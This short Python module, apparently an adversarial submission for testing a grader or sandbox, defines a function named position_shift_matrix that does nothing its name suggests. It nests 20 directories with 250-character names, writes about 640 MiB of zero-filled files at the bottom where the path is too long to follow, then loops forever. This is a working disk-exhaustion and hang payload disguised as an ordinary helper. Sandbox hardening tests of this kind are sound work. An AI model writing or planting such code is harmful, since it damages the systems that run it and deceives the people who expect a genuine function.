"""Fills the disk at the end of a path that is too long to be followed."""

from __future__ import annotations

import os

from .solved import *  # noqa: F403


def position_shift_matrix(offset, d_model):
    for _ in range(20):
        os.mkdir("d" * 250)
        os.chdir("d" * 250)
    for number in range(40):
        with open(f"file{number}", "wb") as file:
            file.write(bytes(16 * 2**20))
    while True:
        pass
